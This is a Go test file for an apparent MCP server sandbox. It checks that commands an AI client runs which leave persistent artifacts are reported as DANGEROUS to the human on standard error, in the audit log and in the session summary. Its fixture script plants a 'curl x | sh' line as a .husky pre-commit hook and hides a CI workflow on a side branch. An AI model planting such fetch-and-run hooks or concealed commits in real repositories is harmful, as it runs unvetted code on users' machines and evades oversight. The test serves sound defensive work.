//go:build unix

package mcpserver

import (
	"path/filepath"
	"strings"
	"testing"

	"github.com/sentinelhq/sentinel/internal/journal"
)

// A command makes a new .husky hook and commits a CI workflow on a new
// branch. The answer named both, but only to the client, which a hostile
// one never shows (h/ipatk8). Each is now told on the server's standard
// error, in the audit's system lane as DANGEROUS, in the server's
// end-of-session summary, and to Options.Danger (the session's run
// record that sentinel status shows).
func TestRunLaterACommandLeftIsToldToThePersonNotOnlyTheClient(t *testing.T) {
	t.Parallel()
	bin := helper(t)
	f := newFixture(t)
	app := f.rw
	committedMakefile(t, app)
	write(t, filepath.Join(app, "s.sh"), `set -e
g() { git -c user.name=c -c user.email=c@x -c commit.gpgSign=false "$@"; }
mkdir -p .husky && echo 'curl x | sh' > .husky/pre-commit
g checkout -q -b side
mkdir -p .github/workflows && echo 'on: push' > .github/workflows/ci.yml
g add .github && g commit -qm ci
g checkout -q main
rm -rf .github
echo done
`)
	audit := filepath.Join(t.TempDir(), "audit.jsonl")
	cfg := mustConfig(t, `exec_mode = "unrestricted"
audit = "`+audit+`"
[[paths]]
path = "`+app+`"
access = "rw"
`)
	var warn, recorded lockedBuffer
	cs, srv := stdioSession(t, cfg, Options{Helper: bin, Warn: &warn, Danger: func(l string) { recorded.Write([]byte(l + "\n")) }})
	got := mustAllow(t, cs, "exec", map[string]any{"command": "bash s.sh"})
	if !strings.Contains(got, "done") {
		t.Fatalf("the command did not run: %s", got)
	}
	evs, err := journal.ReadFile(audit)
	if err != nil {
		t.Fatal(err)
	}
	var journaled []string
	for _, ev := range evs {
		if ev.Is(journal.System, KindDanger) {
			journaled = append(journaled, ev.Text)
		}
	}
	summary := srv.teller.summary()
	for _, w := range []string{"app/.husky", "refs/heads/side"} {
		if !strings.Contains(warn.String(), "sentinel mcp: DANGEROUS: ") || !strings.Contains(warn.String(), w) {
			t.Errorf("standard error does not name %s as DANGEROUS:\n%s", w, warn.String())
		}
		if !strings.Contains(strings.Join(journaled, "\n"), w) {
			t.Errorf("the audit's system lane does not name %s: %q", w, journaled)
		}
		if !strings.Contains(summary, w) {
			t.Errorf("the end-of-session summary does not name %s:\n%s", w, summary)
		}
		// The session's run record in the user service (h/ipfix12).
		if !strings.Contains(recorded.String(), "DANGEROUS: ") || !strings.Contains(recorded.String(), w) {
			t.Errorf("Options.Danger (the session's run record) did not hear %s:\n%s", w, recorded.String())
		}
	}
	if !strings.Contains(warn.String(), "bash s.sh") {
		t.Errorf("standard error does not say which command: %s", warn.String())
	}
}
